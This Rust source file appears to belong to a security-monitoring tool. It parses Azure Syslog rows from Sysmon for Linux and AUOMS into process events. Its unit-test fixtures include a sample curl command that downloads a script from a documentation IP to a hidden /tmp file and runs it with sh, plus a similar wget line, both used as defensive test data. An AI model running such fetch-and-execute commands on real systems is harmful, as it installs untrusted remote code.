//! Linux guest telemetry of Azure VMs as Log Analytics holds it: rows of the `Syslog`
//! table exported as JSON (`TimeGenerated`, `Computer`, `Facility`, `SeverityLevel`,
//! `SyslogMessage`, `ProcessName`, `HostIP`, `_ResourceId`, …). Two sensors write
//! process creations there:
//!
//! - Sysmon for Linux (`ProcessName` `sysmon`): `SyslogMessage` is the event's XML,
//!   `<Event><System>…<EventID>1</EventID>…</System><EventData><Data Name="Image">…`.
//!   The agent cuts long messages (at 2 KiB); the fields before the cut are used.
//! - AUOMS (`ProcessName` `AUOMS_EXECVE`, or the message's `type=AUOMS_EXECVE`): one
//!   `key=value` record per execve, `type=AUOMS_EXECVE audit(<epoch>:<serial>): …
//!   ppid=… pid=… user=… exe="…" cmdline="…" redactors=… containerid=…`.
//!
//! Both become process events on the row's host (`Computer`), which AN0692 ties to a
//! launched VM by name; every other syslog row is of no interest.

use crate::util::{nonempty, rfc3339, truncate, Text};
use crate::{DecodeError, RecordCtx};
use pullwatch_model::{ContainerRef, Event, EventKind, Format, Placement, ProcessExec, Ts};
use serde::Deserialize;
use std::borrow::Cow;

#[derive(Deserialize)]
struct Row<'a> {
    #[serde(rename = "TimeGenerated", borrow)]
    time_generated: Option<Text<'a>>,
    #[serde(rename = "Computer", borrow)]
    computer: Option<Text<'a>>,
    #[serde(rename = "HostName", borrow)]
    host_name: Option<Text<'a>>,
    #[serde(rename = "ProcessName", borrow)]
    process_name: Option<Text<'a>>,
    #[serde(rename = "SyslogMessage", borrow)]
    message: Option<Text<'a>>,
}

pub fn decode_json(text: &str, ctx: &RecordCtx, out: &mut Vec<Event>) -> Result<(), DecodeError> {
    let r: Row = serde_json::from_str(text)?;
    let message = r
        .message
        .as_deref()
        .ok_or(DecodeError::Missing("SyslogMessage"))?;
    let host = nonempty(&r.computer).or(nonempty(&r.host_name));
    let row_time = nonempty(&r.time_generated);
    let process = nonempty(&r.process_name).unwrap_or("");
    let body = message.trim_start();
    if body.starts_with("<Event") {
        if !process.eq_ignore_ascii_case("sysmon") && !message.contains("Sysmon") {
            return Ok(());
        }
        return sysmon(body, host, row_time, ctx, out);
    }
    if body.starts_with("type=AUOMS_EXECVE ") || process.eq_ignore_ascii_case("AUOMS_EXECVE") {
        return auoms(body, host, row_time, ctx, out);
    }
    if row_time.is_none() {
        return Err(DecodeError::Missing("TimeGenerated"));
    }
    Ok(())
}

fn sysmon(
    xml: &str,
    host: Option<&str>,
    row_time: Option<&str>,
    ctx: &RecordCtx,
    out: &mut Vec<Event>,
) -> Result<(), DecodeError> {
    let event_id = element(xml, "EventID").ok_or(DecodeError::Missing("EventID"))?;
    if event_id.trim() != "1" {
        return Ok(());
    }
    let data = |name: &str| data(xml, name);
    let time = match (data("UtcTime"), row_time) {
        (Some(t), _) => utc_time(&t)?,
        (None, Some(t)) => rfc3339(t)?,
        (None, None) => return Err(DecodeError::Missing("UtcTime")),
    };
    let image = data("Image").ok_or(DecodeError::Missing("EventData.Image"))?;
    let int = |name: &str| data(name).and_then(|v| v.trim().parse::<u32>().ok());
    let host = host
        .map(str::to_string)
        .or_else(|| element(xml, "Computer").map(Cow::into_owned));
    let guid = data("ProcessGuid");
    let mut e = Event::new(
        time,
        ctx.source(Format::AzureSyslog),
        EventKind::Process(ProcessExec {
            lineage: Default::default(),
            placement: Placement::Host { host: host.clone() },
            pid: int("ProcessId"),
            ppid: int("ParentProcessId"),
            exe: pullwatch_model::name(&image),
            cmdline: data("CommandLine")
                .map(Cow::into_owned)
                .unwrap_or_else(|| image.to_string()),
            parent_exe: data("ParentImage").as_deref().map(pullwatch_model::name),
            user: data("User").map(Cow::into_owned),
        }),
    );
    // The same process forwarded twice has one ProcessGuid per host.
    if let Some(g) = guid
        .map(|g| crate::sysmon::normalize_guid(&g))
        .filter(|g| !g.is_empty())
    {
        let host = host.unwrap_or_default().to_ascii_lowercase();
        e.dedupe = Some(format!("sysmon:{host}:{g}").into());
    }
    out.push(e);
    Ok(())
}

/// The text of the first `<name>…</name>` element (attributes allowed).
fn element<'a>(xml: &'a str, name: &str) -> Option<Cow<'a, str>> {
    let open = format!("<{name}");
    let mut at = 0;
    while let Some(i) = xml.get(at..)?.find(&open) {
        let start = at + i + open.len();
        let rest = xml.get(start..)?;
        // `<EventIDx>` is another element.
        if rest.starts_with('>') || rest.starts_with(' ') {
            let gt = rest.find('>')?;
            if rest[..gt].ends_with('/') {
                return Some(Cow::Borrowed(""));
            }
            let body = &rest[gt + 1..];
            let end = body.find(&format!("</{name}>"))?;
            return Some(unescape(&body[..end]));
        }
        at = start;
    }
    None
}

/// The value of `<Data Name="name">…</Data>`; `None` when absent or cut off.
fn data<'a>(xml: &'a str, name: &str) -> Option<Cow<'a, str>> {
    let mut rest = xml;
    while let Some(i) = rest.find("<Data ") {
        rest = &rest[i + 6..];
        let gt = rest.find('>')?;
        let attrs = &rest[..gt];
        let named = attrs.split_once("Name=").and_then(|(_, v)| {
            let q = v.chars().next()?;
            (q == '"' || q == '\'').then(|| v[1..].split(q).next())?
        }) == Some(name);
        if !named {
            continue;
        }
        if attrs.ends_with('/') {
            return Some(Cow::Borrowed(""));
        }
        let body = &rest[gt + 1..];
        let end = body.find("</Data>")?;
        return Some(unescape(&body[..end]));
    }
    None
}

/// XML's five named entities and numeric references; anything else is kept as written.
fn unescape(s: &str) -> Cow<'_, str> {
    if !s.contains('&') {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len());
    let mut rest = s;
    while let Some(i) = rest.find('&') {
        out.push_str(&rest[..i]);
        rest = &rest[i..];
        let Some(semi) = rest.get(..rest.len().min(12)).and_then(|h| h.find(';')) else {
            out.push('&');
            rest = &rest[1..];
            continue;
        };
        let name = &rest[1..semi];
        let ch = match name {
            "lt" => Some('<'),
            "gt" => Some('>'),
            "amp" => Some('&'),
            "quot" => Some('"'),
            "apos" => Some('\''),
            n => n
                .strip_prefix("#x")
                .and_then(|h| u32::from_str_radix(h, 16).ok())
                .or_else(|| n.strip_prefix('#').and_then(|d| d.parse().ok()))
                .and_then(char::from_u32),
        };
        match ch {
            Some(c) => {
                out.push(c);
                rest = &rest[semi + 1..];
            }
            None => {
                out.push('&');
                rest = &rest[1..];
            }
        }
    }
    out.push_str(rest);
    Cow::Owned(out)
}

/// Sysmon's `UtcTime`: `2026-11-20 09:00:41.518`, UTC without a zone.
fn utc_time(s: &str) -> Result<Ts, DecodeError> {
    let t = s.trim();
    let iso = match t.split_once(' ') {
        Some((d, rest)) => format!("{d}T{rest}Z"),
        None => format!("{t}Z"),
    };
    Ts::parse_rfc3339(&iso).ok_or_else(|| DecodeError::Time(truncate(s, 64)))
}

fn auoms(
    msg: &str,
    host: Option<&str>,
    row_time: Option<&str>,
    ctx: &RecordCtx,
    out: &mut Vec<Event>,
) -> Result<(), DecodeError> {
    // `type=AUOMS_EXECVE audit(1795165242.123:100): fields…`
    let (head, fields) = msg.split_once("): ").unwrap_or(("", msg));
    let stamp = head
        .split_once("audit(")
        .and_then(|(_, s)| s.split_once(':'))
        .map(|(t, _)| t);
    let time = match (stamp, row_time) {
        (Some(s), _) => epoch(s)?,
        (None, Some(t)) => rfc3339(t)?,
        (None, None) => return Err(DecodeError::Missing("audit(…) time")),
    };
    let value = |key: &str| kv(fields, key);
    if value("success").as_deref() == Some("no") {
        return Ok(());
    }
    let exe = value("exe").ok_or(DecodeError::Missing("exe"))?;
    // argv is written unquoted when it has no space, and is followed by `redactors=`.
    let cmdline = match fields.split_once(" cmdline=") {
        Some((_, rest)) => {
            let raw = rest.split(" redactors=").next().unwrap_or(rest).trim();
            match raw.strip_prefix('"') {
                Some(q) => q.strip_suffix('"').unwrap_or(q).replace("\\\"", "\""),
                None => raw.to_string(),
            }
        }
        None => exe.to_string(),
    };
    let int = |key: &str| value(key).and_then(|v| v.parse::<u32>().ok());
    let placement = match value("containerid").filter(|c| !c.is_empty()) {
        Some(id) => Placement::Container(ContainerRef {
            host: host.map(pullwatch_model::name),
            id: ContainerRef::clean_id(&id),
            ..ContainerRef::default()
        }),
        None => Placement::Host {
            host: host.map(str::to_string),
        },
    };
    out.push(Event::new(
        time,
        ctx.source(Format::AzureSyslog),
        EventKind::Process(ProcessExec {
            lineage: Default::default(),
            placement,
            pid: int("pid"),
            ppid: int("ppid"),
            exe: pullwatch_model::name(&exe),
            cmdline,
            parent_exe: None,
            user: value("user").map(Cow::into_owned),
        }),
    ));
    Ok(())
}

/// `1795165242.123` seconds since the epoch.
fn epoch(s: &str) -> Result<Ts, DecodeError> {
    let bad = || DecodeError::Time(truncate(s, 64));
    let (secs, frac) = s.split_once('.').unwrap_or((s, ""));
    let secs: i64 = secs.parse().map_err(|_| bad())?;
    if frac.len() > 9 || !frac.bytes().all(|b| b.is_ascii_digit()) {
        return Err(bad());
    }
    let nanos: i64 = format!("{frac:0<9}").parse().map_err(|_| bad())?;
    Ts::from_secs(secs)
        .and_then(|t| t.0.checked_add(nanos).map(Ts))
        .ok_or_else(bad)
}

/// The value of ` key=` in an AUOMS record: quoted (with `\"` escapes) or up to the
/// next space.
fn kv<'a>(fields: &'a str, key: &str) -> Option<Cow<'a, str>> {
    let pat = format!(" {key}=");
    let padded_start = fields.strip_prefix(&pat[1..]);
    let rest = match padded_start {
        Some(r) => r,
        None => {
            let i = fields.find(&pat)?;
            &fields[i + pat.len()..]
        }
    };
    match rest.strip_prefix('"') {
        Some(q) => {
            let mut end = None;
            let mut escaped = false;
            for (i, c) in q.char_indices() {
                match c {
                    '\\' if !escaped => escaped = true,
                    '"' if !escaped => {
                        end = Some(i);
                        break;
                    }
                    _ => escaped = false,
                }
            }
            let v = &q[..end?];
            Some(if v.contains('\\') {
                Cow::Owned(v.replace("\\\"", "\"").replace("\\\\", "\\"))
            } else {
                Cow::Borrowed(v)
            })
        }
        None => Some(Cow::Borrowed(rest.split(' ').next().unwrap_or(""))),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::test_support::ctx;

    const SYSMON_XML: &str = r#"<Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="2026-11-20T09:00:41.518652000Z"/><EventRecordID>4711</EventRecordID><Correlation/><Execution ProcessID="1187" ThreadID="1187"/><Channel>Linux-Sysmon/Operational</Channel><Computer>vm-web-1</Computer><Security UserId="0"/></System><EventData><Data Name="RuleName">-</Data><Data Name="UtcTime">2026-11-20 09:00:41.518</Data><Data Name="ProcessGuid">{5b1c2d3e-0a1b-6f3c-5c1d-000000000042}</Data><Data Name="ProcessId">4242</Data><Data Name="Image">/usr/bin/curl</Data><Data Name="FileVersion">-</Data><Data Name="CommandLine">curl -fsSL http://198.51.100.23/s.sh -o /tmp/.s &amp;&amp; sh /tmp/.s</Data><Data Name="CurrentDirectory">/root</Data><Data Name="User">root</Data><Data Name="LogonId">0</Data><Data Name="ParentProcessId">4200</Data><Data Name="ParentImage">/bin/bash</Data><Data Name="ParentCommandLine">bash</Data><Data Name="ParentUser">root</Data></EventData></Event>"#;

    fn row(process: &str, message: &str) -> String {
        serde_json::json!({"TenantId":"11111111-2222-3333-4444-555555555555","SourceSystem":"Linux",
            "TimeGenerated":"2026-11-20T09:00:42.001Z","Computer":"vm-web-1","EventTime":"2026-11-20T09:00:41Z",
            "Facility":"user","HostName":"vm-web-1","SeverityLevel":"info","SyslogMessage":message,
            "ProcessID":1187,"HostIP":"10.0.0.4","ProcessName":process,
            "_ResourceId":"/subscriptions/0/resourcegroups/rg/providers/microsoft.compute/virtualmachines/vm-web-1","Type":"Syslog"})
        .to_string()
    }

    fn decode(s: &str) -> Vec<Event> {
        let mut out = Vec::new();
        decode_json(s, &ctx(), &mut out).unwrap();
        out
    }

    fn process(e: &Event) -> &ProcessExec {
        match &e.kind {
            EventKind::Process(p) => p,
            other => panic!("not a process: {other:?}"),
        }
    }

    #[test]
    fn sysmon_for_linux_process_create() {
        let ev = decode(&row("sysmon", SYSMON_XML));
        assert_eq!(ev.len(), 1);
        assert_eq!(ev[0].source.format, Format::AzureSyslog);
        assert_eq!(
            ev[0].time,
            Ts::parse_rfc3339("2026-11-20T09:00:41.518Z").unwrap()
        );
        let p = process(&ev[0]);
        assert_eq!(
            p.placement,
            Placement::Host {
                host: Some("vm-web-1".into())
            }
        );
        assert_eq!(&*p.exe, "/usr/bin/curl");
        assert_eq!(
            p.cmdline,
            "curl -fsSL http://198.51.100.23/s.sh -o /tmp/.s && sh /tmp/.s"
        );
        assert_eq!((p.pid, p.ppid), (Some(4242), Some(4200)));
        assert_eq!(p.parent_exe.as_deref(), Some("/bin/bash"));
        assert_eq!(p.user.as_deref(), Some("root"));
        assert_eq!(
            ev[0].dedupe.as_deref(),
            Some("sysmon:vm-web-1:5B1C2D3E-0A1B-6F3C-5C1D-000000000042")
        );
        // Other event ids (network connections, file creations) are of no interest.
        assert!(decode(&row(
            "sysmon",
            &SYSMON_XML.replace("<EventID>1<", "<EventID>3<")
        ))
        .is_empty());
    }

    #[test]
    fn a_message_cut_by_the_agent_keeps_its_whole_fields() {
        let cut = &SYSMON_XML[..SYSMON_XML.find("<Data Name=\"CommandLine\">").unwrap() + 40];
        let ev = decode(&row("sysmon", cut));
        let p = process(&ev[0]);
        assert_eq!(&*p.exe, "/usr/bin/curl");
        // The command line was cut: the image stands in for it.
        assert_eq!(p.cmdline, "/usr/bin/curl");
        assert_eq!(p.ppid, None);
        let no_image = &SYSMON_XML[..SYSMON_XML.find("<Data Name=\"Image\">").unwrap()];
        let mut out = Vec::new();
        assert_eq!(
            decode_json(&row("sysmon", no_image), &ctx(), &mut out),
            Err(DecodeError::Missing("EventData.Image"))
        );
    }

    #[test]
    fn auoms_execve_records() {
        let msg = r#"type=AUOMS_EXECVE audit(1795165242.123:100442): node=vm-web-1 syscall=execve syscall_r=59 success=yes exit=0 a0=55d1 a1=55d2 a2=55d3 ppid=4200 pid=4243 audit_user=root auid=0 user=root uid=0 group=root gid=0 effective_user=root euid=0 set_user=root suid=0 filesystem_user=root fsuid=0 effective_group=root egid=0 set_group=root sgid=0 filesystem_group=root fsgid=0 tty=(none) ses=4294967295 comm="wget" exe="/usr/bin/wget" key="" cwd="/root" name="/usr/bin/wget" inode=1049 dev=08:01 mode=file,755 ouid=root ogid=root rdev=00:00 cmdline="wget -q \"http://198.51.100.23/a b\"" redactors=c7,d2 containerid="#;
        let ev = decode(&row("AUOMS_EXECVE", msg));
        assert_eq!(ev[0].time, Ts(1_795_165_242_123_000_000));
        let p = process(&ev[0]);
        assert_eq!(&*p.exe, "/usr/bin/wget");
        assert_eq!(p.cmdline, r#"wget -q "http://198.51.100.23/a b""#);
        assert_eq!((p.pid, p.ppid), (Some(4243), Some(4200)));
        assert_eq!(p.user.as_deref(), Some("root"));
        assert_eq!(
            p.placement,
            Placement::Host {
                host: Some("vm-web-1".into())
            }
        );
        // In a container, AUOMS names it.
        let ev = decode(&row(
            "AUOMS_EXECVE",
            &msg.replace("containerid=", "containerid=3f9c2a7d1e8b"),
        ));
        let Placement::Container(c) = &process(&ev[0]).placement else {
            panic!()
        };
        assert_eq!(c.id.as_deref(), Some("3f9c2a7d1e8b"));
        // A failed execve ran nothing.
        assert!(decode(&row(
            "AUOMS_EXECVE",
            &msg.replace("success=yes", "success=no")
        ))
        .is_empty());
        let mut out = Vec::new();
        assert!(matches!(
            decode_json(
                &row(
                    "AUOMS_EXECVE",
                    &msg.replace("audit(1795165242.123:", "audit(soon:")
                ),
                &ctx(),
                &mut out
            ),
            Err(DecodeError::Time(_))
        ));
    }

    #[test]
    fn other_syslog_rows_say_nothing() {
        assert!(decode(&row(
            "sshd",
            "Accepted publickey for azureuser from 203.0.113.9"
        ))
        .is_empty());
        let mut out = Vec::new();
        assert_eq!(
            decode_json(
                r#"{"Computer":"vm","ProcessName":"cron"}"#,
                &ctx(),
                &mut out
            ),
            Err(DecodeError::Missing("SyslogMessage"))
        );
        assert_eq!(
            unescape("a &lt;b&gt; &#x41;&#66; &bogus; &"),
            "a <b> AB &bogus; &"
        );
    }
}
